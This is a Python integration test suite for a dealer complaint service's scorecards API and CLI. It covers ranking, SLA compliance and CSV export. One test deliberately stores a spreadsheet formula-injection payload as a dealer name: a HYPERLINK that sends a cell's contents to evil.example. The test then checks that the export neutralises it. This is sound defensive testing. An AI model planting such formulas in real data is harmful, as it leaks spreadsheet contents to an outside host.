"""Integration tests of the scorecards: GET /api/v1/scorecards over real HTTP on the real
daemon, and `dealerbot scorecard` (table, card and CSV) on the same database. Complaints are
filed through the API; what chat would do to them (acknowledge, agree a solution, close) is
written into the database directly, the return visit's score goes through the API. Run by
CTest with DEALERBOT_BIN set; or by hand:
    DEALERBOT_BIN=build/src/dealerbot /usr/bin/python3 tests/integration/test_scorecards.py
"""

import csv
import datetime
import io
import os
import re
import sqlite3
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import dbot  # noqa: E402
from dbot import check, complaint, eq  # noqa: E402

H = 3600
D = 86400
CST = datetime.timezone(datetime.timedelta(hours=8))
LOCAL = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+08:00$")


def rfc3339(t):
    return datetime.datetime.fromtimestamp(t, CST).isoformat()


def near(got, want, what):
    check(got is not None and abs(got - want) < 1e-6, "%s: got %r, want %r" % (what, got, want))


def file(b, ext, dealer, received_at):
    r = b.post("/api/v1/complaints",
               complaint(ext, dealer=dealer, received_at=rfc3339(received_at)))
    eq(r.status, 201, "POST %s" % ext)
    return r.json["id"]


def set_times(b, cid, **offsets):
    """Sets ack_at / solution_at / closed_at to received_at + the given seconds, as the chat
    lifecycle would have (closed_at also makes the state "closed")."""
    con = sqlite3.connect(os.path.join(b.dir, "dealerbot.db"), timeout=10)
    try:
        with con:
            for col, off in offsets.items():
                con.execute("UPDATE complaints SET %s = received_at + ? WHERE id = ?" % col,
                            (off, int(cid[2:])))
            if "closed_at" in offsets:
                con.execute("UPDATE complaints SET state = 'closed' WHERE id = ?",
                            (int(cid[2:]),))
    finally:
        con.close()


def fixture(b):
    """D001 (1,200 a year): c1 ten days ago, acknowledged after 2 h, solution after 1 d, closed
    after 5 d (all on time), score 5; c2 nine days ago, acknowledged after 20 h (late), no
    solution (overdue since day 5), close not yet due; c3 an hour ago (nothing due).
    D002 (800): c4 twenty days ago, never acknowledged (overdue); c5 a hundred days ago.
    D003 (volume unknown): nothing."""
    now = int(time.time())
    c1 = file(b, "SC-1", "D001", now - 10 * D)
    c2 = file(b, "SC-2", "D001", now - 9 * D)
    file(b, "SC-3", "D001", now - H)
    file(b, "SC-4", "D002", now - 20 * D)
    file(b, "SC-5", "D002", now - 100 * D)
    set_times(b, c1, ack_at=2 * H, solution_at=D, closed_at=5 * D)
    set_times(b, c2, ack_at=20 * H)
    r = b.post("/api/v1/complaints/%s/satisfaction" % c1, {"score": 5})   # closed: recorded
    eq(r.status, 200, "satisfaction")
    return now


# The fixture backdates complaints, so their deadlines passed before they were filed and the
# SLA engine would add breach points at once; they are set to 0 here so that the ledger holds
# exactly what a test puts in it.
NO_BREACH_POINTS = "penalties = { ack_points = 0; solution_points = 0; close_points = 0; };"


def by_code(doc):
    return {d["code"]: d for d in doc["dealers"]}


def test_api_default_window(t):
    b = t.bot(extra=NO_BREACH_POINTS)
    now = fixture(b)
    r = b.get("/api/v1/scorecards")
    eq(r.status, 200, "GET /api/v1/scorecards")
    doc = r.json
    w = doc["window"]
    eq((w["kind"], w["label"]), ("rolling", "90d"), "default window (underperformers.window)")
    for k in ("from", "to", "as_of"):
        check(LOCAL.match(w[k]), "window.%s %r" % (k, w[k]))
    check(abs(datetime.datetime.fromisoformat(w["to"]).timestamp() - now) < 60, "ends now")

    eq(doc["network"]["dealers"], 3, "dealers in the network")
    eq([d["code"] for d in doc["dealers"]], ["D001", "D002", "D003"], "every dealer, by code")
    d1, d2, d3 = (by_code(doc)[c] for c in ("D001", "D002", "D003"))
    eq(d1["name"], "Shanghai Pudong Motors", "name")
    eq(d1["region"], "East", "region")
    eq((d1["sales_volume"], d3["sales_volume"]), (1200, None), "sales volume")

    # complaints 3, 1 (the 100-day-old one is out), 0: D003 first, D001 last
    eq((d1["complaints"], d2["complaints"], d3["complaints"]), (3, 1, 0), "complaints")
    eq((d3["rank"]["complaints"], d3["percentile"]["complaints"]), (1, 100), "D003 rank")
    eq((d2["rank"]["complaints"], d2["percentile"]["complaints"]), (2, 50), "D002 rank")
    eq((d1["rank"]["complaints"], d1["percentile"]["complaints"]), (3, 0), "D001 rank")
    eq(doc["network"]["ranked"]["complaints"], 3, "ranked on complaints")
    # per 1,000 units, the year's volume pro-rated to 90 days
    near(d1["per_1000"], 3 * 1000 * 365 / (1200 * 90), "D001 per 1,000")
    near(d2["per_1000"], 1 * 1000 * 365 / (800 * 90), "D002 per 1,000")
    eq(d3["per_1000"], None, "no volume, no rate")
    eq((d3["rank"]["per_1000"], d3["percentile"]["per_1000"]), (None, None), "and no rank")
    eq(doc["network"]["ranked"]["per_1000"], 2, "ranked on the rate")
    near(doc["network"]["per_1000"], 4 * 1000 * 365 / (2000 * 90), "pooled rate")
    # compliance: D001 ack 1 of 2 (c3 not due), solution 1 of 2, close 1 of 1 (c2's is not
    # due); D002 every milestone overdue
    near(d1["ack_compliance"], 50, "D001 ack")
    near(d1["solution_compliance"], 50, "D001 solution")
    near(d1["close_compliance"], 100, "D001 close")
    near(d2["ack_compliance"], 0, "D002 ack")
    near(d2["close_compliance"], 0, "D002 close overdue since day 15")
    eq(d3["ack_compliance"], None, "D003 nothing to judge")
    eq((d1["rank"]["ack_compliance"], d1["percentile"]["ack_compliance"]), (1, 100), "ack rank")
    eq((d2["rank"]["ack_compliance"], d2["percentile"]["ack_compliance"]), (2, 0), "ack rank")
    near(doc["network"]["ack_compliance"], 100 / 3, "network ack: 1 of 3")
    # times: D001 acknowledged after 2 h and 20 h; closed after 5 d
    eq((d1["ack_p50_s"], d1["ack_p90_s"]), (2 * H, 20 * H), "ack P50/P90")
    eq((d1["close_p50_s"], d1["close_p90_s"]), (5 * D, 5 * D), "close P50/P90")
    eq(d2["ack_p50_s"], None, "never acknowledged")
    eq(d1["satisfaction"], 5, "satisfaction")
    eq(d1["answers"], 1, "answers")
    check("answers" not in d1["rank"] and "answers" not in doc["network"]["ranked"],
          "answers are not ranked")
    eq((d1["reopened"], d1["rejected"], d1["penalty_points"]), (0, 0, 0), "counters")
    near(doc["network"]["complaints"], 4 / 3, "network complaints per dealer")


def test_api_windows_and_errors(t):
    b = t.bot(extra=NO_BREACH_POINTS)
    fixture(b)
    r = b.get("/api/v1/scorecards?window=120d")
    eq(r.status, 200, "window=120d")
    eq(r.json["window"]["label"], "120d", "label")
    eq(by_code(r.json)["D002"]["complaints"], 2, "the 100-day-old complaint is in")

    this_month = datetime.datetime.now(CST).strftime("%Y-%m")
    r = b.get("/api/v1/scorecards?month=" + this_month)
    eq(r.status, 200, "month")
    w = r.json["window"]
    eq((w["kind"], w["label"]), ("month", this_month), "month window")
    check(w["from"].startswith(this_month + "-01T00:00:00+08:00"), "local midnight: %r" % w["from"])

    r = b.get("/api/v1/scorecards?quarter=2026Q4")
    eq(r.status, 200, "quarter")
    w = r.json["window"]
    eq((w["kind"], w["label"], w["from"], w["to"]),
       ("quarter", "2026Q4", "2026-10-01T00:00:00+08:00", "2027-01-01T00:00:00+08:00"), "quarter")

    r = b.get("/api/v1/scorecards?dealer=d002")
    eq(r.status, 200, "dealer filter")
    eq([d["code"] for d in r.json["dealers"]], ["D002"], "only that dealer")
    eq(r.json["dealers"][0]["rank"]["complaints"], 2, "still ranked among all")
    eq(r.json["network"]["ranked"]["complaints"], 3, "ranked among all")
    eq(r.json["network"]["dealers"], 3, "network of all")

    for q, status, words in [
            ("window=soon", 400, "window"), ("month=2026-13", 400, "month"),
            ("quarter=2026Q5", 400, "quarter"), ("window=30d&month=2026-11", 400, "one of"),
            ("limit=3", 400, "unknown query parameter"), ("dealer=NOPE", 404, "no such dealer")]:
        r = b.get("/api/v1/scorecards?" + q)
        eq(r.status, status, q)
        check(words in r.json["error"], "%s: %r" % (q, r.json["error"]))
    eq(b.get("/api/v1/scorecards", token=None).status, 401, "no token")
    eq(b.post("/api/v1/scorecards", {}).status, 405, "POST")


def test_cli_csv_and_table(t):
    b = t.bot(extra=NO_BREACH_POINTS)
    fixture(b)
    api = by_code(b.get("/api/v1/scorecards").json)
    # a dealer whose name and region a spreadsheet would run as formulas
    formula_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    con = sqlite3.connect(os.path.join(b.dir, "dealerbot.db"), timeout=10)
    with con:
        con.execute("UPDATE dealers SET name = ?, region = ? WHERE code = 'D002'",
                    (formula_name, "@SUM(1+1)"))
    con.close()

    p_out = dbot.subprocess.run([dbot.BIN, "-c", b.conf, "scorecard", "--csv"], cwd=b.dir,
                                capture_output=True, timeout=60)
    eq(p_out.returncode, 0, "scorecard --csv exit status")
    raw = p_out.stdout
    check(raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM first")
    check(raw.endswith(b"\r\n"), "CRLF at the end")
    check(b"\n" not in raw.replace(b"\r\n", b""), "every line ends in CRLF")
    check(b'"Guangzhou Tianhe Cars, Ltd"' in raw, "a name with a comma is quoted")
    rows = list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))
    head, body = rows[0], rows[1:]
    eq(head[:7], ["window", "from", "to", "code", "name", "region", "sales_volume"], "header")
    for col in ("complaints", "complaints_network", "complaints_rank", "complaints_percentile",
                "per_1000", "ack_compliance", "ack_p50_h", "close_p90_h", "satisfaction",
                "answers", "answers_network"):
        check(col in head, "column %s" % col)
    check("answers_rank" not in head, "answers are not ranked")
    eq(len(body), 3, "one row per dealer")
    rec = {r[head.index("code")]: dict(zip(head, r)) for r in body}
    d1 = rec["D001"]
    eq(d1["window"], "90d", "window column")
    eq(d1["complaints"], str(api["D001"]["complaints"]), "complaints as in the API")
    eq(d1["complaints_rank"], "3", "rank")
    eq(d1["complaints_network"], "1.33", "network mean")
    eq(d1["ack_p50_h"], "2.00", "hours")
    eq(d1["ack_compliance"], "50.0", "percent")
    eq(rec["D003"]["per_1000"], "", "unknown volume: empty")
    # formula cells are neutralised (a leading single quote, the cell quoted); numbers are not
    eq(rec["D002"]["name"], "'" + formula_name, "a formula name starts with a quote")
    eq(rec["D002"]["region"], "'@SUM(1+1)", "a formula region starts with a quote")
    check(b'"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in raw, "quoted, raw")
    eq(rec["D003"]["per_1000_rank"], "", "and no rank")

    _, out, _ = b.cli("scorecard", "--csv", "--dealer", "d001")
    eq(len(out.strip("\r\n").split("\r\n")), 2, "--dealer: header and one row")

    _, out, _ = b.cli("scorecard")
    check(out.startswith("scorecards 90d: "), out[:80])
    lines = out.splitlines()
    check(any(l.startswith("D001 ") for l in lines), "a line per dealer")
    check(any(l.startswith("(network)") for l in lines), "the network line")

    _, out, _ = b.cli("scorecard", "--dealer", "D001", "--window", "30d")
    check(out.startswith("scorecards 30d: "), out[:80])
    check("ack on time" in out and "3 of 3" in out, "the card: %s" % out)

    _, _, err = b.cli("scorecard", "--dealer", "NOPE", expect=1)
    check("no such dealer: NOPE" in err, err)
    _, _, err = b.cli("scorecard", "--month", "2026-13", expect=1)
    check("month" in err and err.count("\n") == 1, err)
    b.cli("scorecard", "--window", "30d", "--month", "2026-11", expect=2)
    b.cli("scorecard", "--bogus", expect=2)
    _, out, _ = b.cli("scorecard", "--help")
    check("--quarter" in out, "help")
    _, out, _ = b.cli("--help")
    check("scorecard" in out, "main help lists scorecard")


dbot.main(globals())
